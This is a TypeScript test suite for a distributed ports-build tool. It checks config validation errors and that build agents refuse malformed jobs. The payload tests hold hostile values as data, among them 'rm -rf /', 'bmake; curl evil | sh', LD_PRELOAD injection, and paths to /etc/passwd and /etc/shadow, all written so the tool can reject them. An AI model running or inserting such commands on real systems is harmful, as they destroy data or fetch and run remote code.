/**
 * Distributed builds without building: builds.yaml's `executor:` and agent.yaml are checked with
 * errors at FILE:LINE:COL (`portsync agent` exits 2 on them), a malformed job is refused by a real
 * agent with an error naming the field, and a job from another tree is refused and recorded.
 */
import { test, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { ConfigError } from '../src/config/errors.js';
import { loadDesiredState } from '../src/config/load.js';
import { loadAgentConfig } from '../src/distributed/agentConfig.js';
import { JobPayloadError } from '../src/distributed/errors.js';
import { JOB_FORMAT, parseBuildJob, type BuildJob } from '../src/distributed/job.js';
import { runNamed } from './helpers/cli.js';
import { TOKEN, TestAgent, TestRedis, distributedExecutor, redisMissing } from './helpers/distributed.js';
import { bmakeMissing } from './helpers/minitree.js';
import { TestProject } from './helpers/project.js';
import { BIN, waitFor } from './helpers/wait.js';

const tmp = mkdtempSync(join(tmpdir(), 'portsync-distributed-config-'));
const cleanup: (() => Promise<void> | void)[] = [() => rmSync(tmp, { recursive: true, force: true })];
after(async () => {
  for (const f of cleanup.reverse()) await f();
});

let cases = 0;
/** `text` as a fresh file named `name` in a directory of its own (with a ports/ directory beside it). */
function fileWith(name: string, text: string): string {
  const dir = join(tmp, `case${++cases}`);
  mkdirSync(join(dir, 'ports'), { recursive: true });
  writeFileSync(join(dir, name), text);
  return join(dir, name);
}

async function configError(load: () => unknown): Promise<ConfigError> {
  try {
    await load();
  } catch (e) {
    assert.ok(e instanceof ConfigError, `expected a ConfigError, got ${String(e)}`);
    return e;
  }
  return assert.fail('expected a ConfigError');
}

const BUILDS = 'portsTree: { path: ports }\nports:\n  - devel/libalpha\n';

describe('builds.yaml executor:', () => {
  test('local by default; distributed with its defaults filled in', async () => {
    assert.equal((await loadDesiredState(fileWith('builds.yaml', BUILDS))).executor?.kind, 'local');
    const s = await loadDesiredState(
      fileWith('builds.yaml', `${BUILDS}executor: { kind: distributed, redis: "redis://127.0.0.1:6379" }\n`),
    );
    assert.deepEqual(s.executor, {
      kind: 'distributed',
      redis: 'redis://127.0.0.1:6379',
      queue: 'portsync',
      localWorkers: 0,
      maxInFlight: 256,
      listen: '127.0.0.1:0',
      tokenEnv: 'PORTSYNC_AGENT_TOKEN',
      maxPackageBytes: 8 * 2 ** 30,
      verifyPackages: false,
    });
  });

  const bad: [what: string, yaml: string, at: string, message: RegExp][] = [
    [
      'distributed without redis',
      'executor:\n  kind: distributed\n',
      '5:9',
      /executor\.kind is distributed but executor\.redis is not set; give the queue's server, e\.g\. redis: "redis:\/\/127\.0\.0\.1:6379"/,
    ],
    [
      'a listen address other machines reach, without url',
      'executor:\n  kind: distributed\n  redis: redis://10.0.0.1:6379\n  listen: 0.0.0.0:8788\n',
      '7:11',
      /executor\.listen is 0\.0\.0\.0:8788, not a loopback address, and executor\.url is not set; say how agents reach it/,
    ],
    ['an unknown kind', 'executor:\n  kind: remote\n', '5:9', /kind/],
    ['a redis URL that is not one', 'executor:\n  kind: distributed\n  redis: http://10.0.0.1:6379\n', '6:10', /redis/],
    ['a zero package size', 'executor:\n  maxPackageSize: 0k\n', '5:19', /executor\.maxPackageSize "0k" is zero; give a size above zero/],
    ['a queue name with a space', 'executor:\n  queue: "my queue"\n', '5:10', /queue/],
    ['negative local workers', 'executor:\n  localWorkers: -1\n', '5:17', /localWorkers/],
    ['an unknown key', 'executor:\n  kind: local\n  workers: 4\n', '6:3', /workers/],
  ];
  for (const [what, yaml, at, message] of bad) {
    test(`refused at FILE:LINE:COL: ${what}`, async () => {
      const file = fileWith('builds.yaml', BUILDS + yaml);
      const e = await configError(() => loadDesiredState(file));
      assert.equal(e.issues.length, 1, e.message);
      assert.equal(`${e.issues[0]!.line}:${e.issues[0]!.col}`, at, e.message);
      assert.ok(e.message.startsWith(`${file}:${at}`), e.message);
      assert.match(e.message, message);
    });
  }

  test('a listen address other machines reach is fine with url', async () => {
    const s = await loadDesiredState(
      fileWith(
        'builds.yaml',
        `${BUILDS}executor: { kind: distributed, redis: "redis://10.0.0.1:6379", listen: "0.0.0.0:8788", url: "http://build.example.org:8788" }\n`,
      ),
    );
    assert.equal(s.executor?.url, 'http://build.example.org:8788');
  });
});

const AGENT = 'redis: redis://127.0.0.1:6379\nportsTree: ports\n';

describe('agent.yaml', () => {
  test('defaults: the host name, two workers, paths beside the file, a 30 s lock', () => {
    const file = fileWith('agent.yaml', AGENT);
    const dir = join(file, '..');
    const cfg = loadAgentConfig(file);
    assert.equal(cfg.name, hostname());
    assert.equal(cfg.queue, 'portsync');
    assert.equal(cfg.workers, 2);
    assert.equal(cfg.portsTree, join(dir, 'ports'));
    assert.equal(cfg.paths.buildBase, join(dir, '.portsync-agent/build'));
    assert.equal(cfg.backend, 'chroot');
    assert.equal(cfg.tokenEnv, 'PORTSYNC_AGENT_TOKEN');
    assert.equal(cfg.lockTimeoutMs, 30_000);
  });

  const bad: [what: string, yaml: string, at: string, message: RegExp][] = [
    ['no redis', 'portsTree: ports\nworkers: 2\n', '1:1', /redis/],
    ['zero workers', `${AGENT}workers: 0\n`, '3:10', /workers/],
    ['an unknown backend', `${AGENT}environment: { backend: jail }\n`, '3:25', /backend/],
    ['a lock shorter than a second', `${AGENT}lockTimeout: 500ms\n`, '3:14', /lockTimeout must be at least 1s/],
    [
      'a lock that is not a duration',
      `${AGENT}lockTimeout: soon\n`,
      '3:14',
      /lockTimeout: "soon" is not a duration: it does not start with a number and a unit/,
    ],
    ['an unknown key', `${AGENT}executor: {}\n`, '3:1', /executor/],
    ['a YAML syntax error', `${AGENT}workers: [2\n`, '4:1', /YAML syntax/],
    [
      'a builds.yaml given instead',
      'portsTree: { path: ports }\nports: ["*/*"]\n',
      '1:1',
      /this is a builds\.yaml, not an agent\.yaml: portsync agent reads its own file/,
    ],
  ];
  for (const [what, yaml, at, message] of bad) {
    test(`refused at FILE:LINE:COL: ${what}`, async () => {
      const file = fileWith('agent.yaml', yaml);
      const e = await configError(() => loadAgentConfig(file));
      assert.ok(e.message.startsWith(`${file}:${at}`), e.message);
      assert.match(e.message, message);
    });
  }

  test('a missing file says how to write one', async () => {
    const e = await configError(() => loadAgentConfig(join(tmp, 'nowhere', 'agent.yaml')));
    assert.match(e.message, /no such file; write one \(see README, "Building on several machines"\) and pass it with --config/);
  });

  test('`portsync agent` exits 2: on an invalid agent.yaml (a process), on an unset token variable', async () => {
    const file = fileWith('agent.yaml', `${AGENT}workers: 0\n`);
    const r = spawnSync(process.execPath, [BIN, '--config', file, 'agent'], { encoding: 'utf8', timeout: 60_000 });
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, new RegExp(`${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}:3:10: .*workers`));
    const unset = fileWith('agent.yaml', `${AGENT}tokenEnv: PORTSYNC_TEST_UNSET_TOKEN\n`);
    const t = await runNamed('agent', unset, []);
    assert.equal(t.code, 2);
    assert.match(t.err, /the environment variable PORTSYNC_TEST_UNSET_TOKEN \(tokenEnv in .*agent\.yaml\) is not set/);
  });
});

/** A well-formed job (what a coordinator sends), for the payload checks to spoil one field at a time. */
function goodJob(): BuildJob {
  return {
    format: JOB_FORMAT,
    runId: 'run-1',
    origin: 'devel/libalpha',
    dir: 'devel/libalpha',
    flavor: '',
    pkgname: 'libalpha',
    version: '1.0',
    pkgfile: 'libalpha-1.0.pkg',
    buildId: '11111111-2222-3333-4444-555555555555',
    buildKey: 'a'.repeat(64),
    backend: 'host',
    make: { command: 'bmake', env: { MAKESYSPATH: '@tree/Mk' }, vars: {}, makeJobs: 1 },
    phases: ['fetch', 'build', 'package'],
    installs: [{ pkgname: 'libbase', pkgfile: 'libbase-1.0.pkg', checksum: 'b'.repeat(64) }],
    limits: {
      phaseTimeoutMs: 60_000,
      noOutputTimeoutMs: 60_000,
      network: 'fetch-only',
      pids: 100,
      tmpfs: { construction: '50%', localbase: '25%', tmp: '10%' },
    },
    tree: { kind: 'worktree', portCrc: '0123abcd', files: {} },
    exchange: 'http://127.0.0.1:8788',
  };
}

describe('job payloads', () => {
  test('a well-formed job is taken as it is', () => {
    assert.deepEqual(parseBuildJob('j1', goodJob()), goodJob());
  });

  const spoilt: [field: string, spoil: (j: Record<string, unknown>) => void][] = [
    ['format', (j) => (j.format = 99)],
    ['origin', (j) => (j.origin = '../../etc/passwd')],
    ['dir', (j) => (j.dir = 'devel/other')],
    ['pkgfile', (j) => (j.pkgfile = '../All/evil.pkg')],
    ['buildId', (j) => (j.buildId = 'not-a-uuid')],
    ['backend', (j) => (j.backend = 'jail')],
    ['phases', (j) => (j.phases = ['fetch', 'rm -rf /'])],
    ['installs', (j) => (j.installs = [{ pkgname: 'x', pkgfile: '/etc/shadow' }])],
    ['installs', (j) => (j.installs = [{ pkgname: 'x', pkgfile: 'x.pkg', checksum: 'md5' }])],
    ['make.command', (j) => ((j.make as Record<string, unknown>).command = 'bmake; curl evil | sh')],
    ['make.env', (j) => ((j.make as Record<string, unknown>).env = { 'LD_PRELOAD=x y': '1' })],
    ['limits', (j) => delete j.limits],
    ['tree.commit', (j) => (j.tree = { kind: 'commit', commit: 'HEAD' })],
    ['tree', (j) => (j.tree = { kind: 'svn' })],
    ['exchange', (j) => (j.exchange = 'file:///etc')],
  ];
  for (const [field, spoil] of spoilt) {
    test(`a job with a bad ${field} is refused, naming it`, () => {
      const j = goodJob() as unknown as Record<string, unknown>;
      spoil(j);
      assert.throws(
        () => parseBuildJob('job-7', j),
        (e: unknown) =>
          e instanceof JobPayloadError &&
          e.field === field &&
          e.jobId === 'job-7' &&
          e.message.startsWith(`job job-7: ${field} `) &&
          e.message.includes('the job is refused'),
      );
    });
  }
  test('a payload that is not an object is refused', () => {
    assert.throws(
      () => parseBuildJob('j', 'build everything'),
      (e: unknown) => e instanceof JobPayloadError && e.field === 'payload',
    );
  });
});

// A real agent process on a real redis-server: no build runs (every job here is refused before one).
const skip = redisMissing() ?? bmakeMissing();
if (skip) console.log(`# skipping the agent refusal tests: ${skip}`);

describe('an agent refuses, and says why', { skip, timeout: 180_000 }, () => {
  let redis: TestRedis;
  let agent: TestAgent;
  let project: TestProject;
  const queue = `refusals${process.pid}`;
  test('setup: redis-server, and an agent whose tree differs from the coordinator’s', async () => {
    redis = await TestRedis.start();
    cleanup.push(() => redis.stop());
    project = new TestProject({ ports: ['devel/libalpha'], backend: 'host', extra: distributedExecutor(redis.url, queue) });
    cleanup.push(() => project.remove());
    const tree = join(tmp, 'agent-tree');
    cpSync(project.tree, tree, { recursive: true });
    appendFileSync(join(tree, 'Mk', 'bsd.port.mk'), '# changed on the agent only\n');
    agent = new TestAgent({ name: 'stale', redis: redis.url, queue, portsTree: tree, backend: 'host' });
    cleanup.push(() => agent.stop());
    await agent.ready();
  });

  test('a malformed job from the queue: refused with the field at fault, nothing built', async () => {
    const { Queue, QueueEvents } = await import('bullmq');
    const q = new Queue(queue, { connection: { url: redis.url } });
    const events = new QueueEvents(queue, { connection: { url: redis.url } });
    try {
      await events.waitUntilReady();
      const bad = { ...goodJob(), installs: [{ pkgname: 'x', pkgfile: '../../../etc/shadow' }] };
      // Kept when finished (an agent's jobs are removed at once otherwise), so its result is read even if it finishes first.
      const job = await q.add('build', bad, { jobId: bad.buildId, removeOnComplete: false });
      const ret = (await job.waitUntilFinished(events, 30_000)) as {
        host: string;
        result: { status: string; error: string; transient: boolean };
      };
      assert.equal(ret.host, 'stale');
      assert.equal(ret.result.status, 'failed');
      assert.equal(ret.result.transient, true);
      assert.match(
        ret.result.error,
        /^agent stale: job 11111111-2222-3333-4444-555555555555: installs names a package file that is not a plain file name: "\.\.\/\.\.\/\.\.\/etc\/shadow"; the job is refused/,
      );
      await waitFor(
        'the agent to log the refusal',
        () => /refused job 11111111-2222-3333-4444-555555555555: .*installs/.test(agent.output),
        5000,
      );
    } finally {
      await Promise.allSettled([q.close(), events.close()]);
    }
  });

  test("a job from another tree: refused, and the refusal is the build's recorded error", { timeout: 120_000 }, async () => {
    process.env.PORTSYNC_AGENT_TOKEN = TOKEN;
    const r = await project.pass();
    assert.equal(r.status, 'failed', r.lines.join('\n'));
    const port = r.ports.find((p) => p.origin === 'devel/libalpha')!;
    assert.equal(port.transient, true, "the agent's tree is at fault, not the port: built again next pass");
    const want =
      /agent stale: devel\/libalpha: the agent's ports tree .* does not match the coordinator's: Mk\/bsd\.port\.mk has CRC \w+ here, \w+ on the coordinator; update the agent's tree/;
    assert.match(port.error!, want);
    const rows = await project.query<{ status: string; host: string; error: string }>(`SELECT status, host, error FROM builds`);
    assert.equal(rows.length, 1, JSON.stringify(rows));
    assert.equal(rows[0]!.status, 'failed');
    assert.equal(rows[0]!.host, 'stale');
    assert.match(rows[0]!.error, want);
    assert.deepEqual(await project.query(`SELECT failed_key FROM port_state`), [], 'not marked "failed at these inputs"');
    // The pass said where its builds went (not "with 256 workers").
    assert.ok(
      r.lines.some((l) =>
        new RegExp(`building 1 port on the agents of queue ${queue} at redis://127\\.0\\.0\\.1:\\d+ \\(up to 256 queued at once\\)$`).test(
          l,
        ),
      ),
      r.lines.join('\n'),
    );
  });
});
